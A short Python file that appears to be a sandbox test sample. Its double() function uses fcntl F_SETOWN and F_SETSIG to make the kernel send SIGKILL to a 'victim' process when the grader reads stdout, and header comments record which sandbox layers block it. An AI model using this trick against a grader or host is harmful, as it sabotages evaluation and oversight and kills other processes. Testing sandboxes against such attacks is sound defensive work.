# tries: makes another process the owner of a pipe, so that the kernel kills it when the grader reads
# stopped by: landlock 6, seccomp, namespaces
# evidence: victim
# process: works, accepted
# sandbox: blocked, runtime_error
# namespaces: blocked, runtime_error
import fcntl
import json
import os
import signal

F_SETSIG = 10


def double(x, stage):
    fcntl.fcntl(1, fcntl.F_SETOWN, json.loads(stage)["victim"])
    fcntl.fcntl(1, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(1, fcntl.F_SETFL, os.O_WRONLY | os.O_ASYNC)
    print("Read this, grader, and the pipe has room again: its owner is to know")
    return 2 * x
